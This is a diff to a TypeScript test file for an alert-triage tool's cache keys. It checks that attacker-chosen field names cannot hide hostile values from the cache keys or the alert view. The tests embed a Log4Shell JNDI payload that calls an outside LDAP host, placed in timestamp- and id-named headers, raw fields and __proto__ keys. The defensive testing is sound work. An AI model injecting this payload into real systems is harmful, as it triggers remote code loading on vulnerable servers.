@@ -57,9 +57,11 @@ describe("cache keys", () => {
     );
   });
 
-  it("ignore ids, timestamps, the raw copy, TI cache flags and volatile fields (property)", () => {
+  it("ignore ids, timestamps, the raw copy, TI cache flags and id- or time-shaped volatile fields (property)", () => {
+    // What volatile names promise: UUIDs, hex, numeric and opaque ids (a volatile name hides nothing else: see below).
+    const idArb = fc.oneof(fc.uuid(), fc.stringMatching(/^[0-9a-f]{6,40}$/), fc.nat().map(String), fc.stringMatching(/^[A-Za-z]{1,8}[-_:]?\d{1,12}$/));
     fc.assert(
-      fc.property(enrichedArb, fc.string({ minLength: 1, maxLength: 30 }), fc.date({ noInvalidDate: true }), (e, id, when) => {
+      fc.property(enrichedArb, idArb, fc.date({ noInvalidDate: true }), (e, id, when) => {
         const changed = withAlert(e, (a) => ({
           ...a,
           alert_id: id,
@@ -156,6 +158,61 @@ describe("cache keys", () => {
       } else expect(answer, JSON.stringify(keys.signature(e))).toBe(seen);
     }
     expect(groups).toBeLessThan(stream.length + extra.length);
+  });
+});
+
+describe("cache keys and field names an attacker chooses", () => {
+  // Headers and JSON keys become fields, so a name is no promise: a volatile or raw name hides only a value shaped
+  // like what it promises (a time, an id, a counter), or a raw copy that repeats what the view shows.
+  const base = item({ alert_name: "Web request", fields: { path: "/login", status: 200 } });
+  const withFields = (fields: Record<string, unknown>) => item({ alert_name: "Web request", fields: { path: "/login", status: 200, ...fields } });
+  const log4shell = "${jndi:ldap://198.51.100.7:1389/a}";
+
+  it("a Log4Shell string in a header named created_at, request_id or @timestamp changes both keys and is shown", () => {
+    for (const name of ["created_at", "request_id", "@timestamp", "nested"]) {
+      const fields = name === "nested" ? { headers: { trace_id: log4shell } } : { [name]: log4shell };
+      const hostile = withFields(fields);
+      expect(keys.exact(hostile), name).not.toBe(keys.exact(base));
+      expect(keys.pattern(hostile), name).not.toBe(keys.pattern(base));
+      expect(JSON.stringify(keys.viewer.view(hostile).fields), name).toContain("jndi:ldap");
+    }
+  });
+
+  it("volatile names still hide times, UUIDs, hex and numeric ids, counters and opaque tokens", () => {
+    const shaped = ["2026-12-01T10:00:00.123Z", "2026-12-01 10:00:00", "Tue, 01 Dec 2026 10:00:00 GMT", "Dec 1 10:00:00", "01/Dec/2026:10:00:00 +0000", "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "0x7fa3c2", "1764583200", 1764583200123, "req_8f3a91", "CHG-4411"];
+    for (const v of shaped) {
+      expect(keys.keys(withFields({ created_at: v, request_id: v, headers: { trace_id: v } })), String(v)).toEqual(keys.keys(withFields({ headers: {} })));
+    }
+  });
+
+  it("a payload or raw_* field that says something new is shown and keyed; a raw copy that repeats the view is not", () => {
+    for (const name of ["payload", "raw_body", "original"]) {
+      const hostile = withFields({ [name]: log4shell });
+      expect(keys.exact(hostile), name).not.toBe(keys.exact(base));
+      expect(keys.pattern(hostile), name).not.toBe(keys.pattern(base));
+      expect(keys.viewer.view(hostile).fields[name], name).toBe(log4shell);
+    }
+    const repeated = item({ alert_name: "Failed password", description: "Failed password for root from 203.0.113.9 port 22", fields: { path: "/login", status: 200, raw: JSON.stringify({ path: "/login", status: 200, ts: "2026-12-01T10:00:00Z" }), full_log: "Failed password for root from 203.0.113.9 port 22" } });
+    const bare = item({ alert_name: "Failed password", description: "Failed password for root from 203.0.113.9 port 22", fields: { path: "/login", status: 200 } });
+    expect(keys.keys(repeated)).toEqual(keys.keys(bare));
+    expect(Object.keys(keys.viewer.view(repeated).fields)).toEqual(["path", "status"]);
+  });
+
+  it("human_override hides a bare label only", () => {
+    expect(keys.keys(withFields({ human_override: "FALSE_POSITIVE" }))).toEqual(keys.keys(base));
+    expect(keys.exact(withFields({ human_override: log4shell }))).not.toBe(keys.exact(base));
+  });
+
+  it("a nested __proto__ key is data: shown, and part of both keys", () => {
+    const proto = JSON.parse(`{"headers":{"__proto__":{"x":"${log4shell}"}}}`) as Record<string, unknown>;
+    const hostile = withFields(proto);
+    const plain = withFields({ headers: {} });
+    expect(keys.exact(hostile)).not.toBe(keys.exact(plain));
+    expect(keys.pattern(hostile)).not.toBe(keys.pattern(plain));
+    expect(JSON.stringify(keys.viewer.view(hostile).fields)).toContain('"__proto__":{"x":"${jndi');
+    const top = withFields(JSON.parse(`{"__proto__":"${log4shell}"}`) as Record<string, unknown>);
+    expect(keys.viewer.view(top).omitted).toBeNull();
+    expect(keys.exact(top)).not.toBe(keys.exact(base));
   });
 });
 
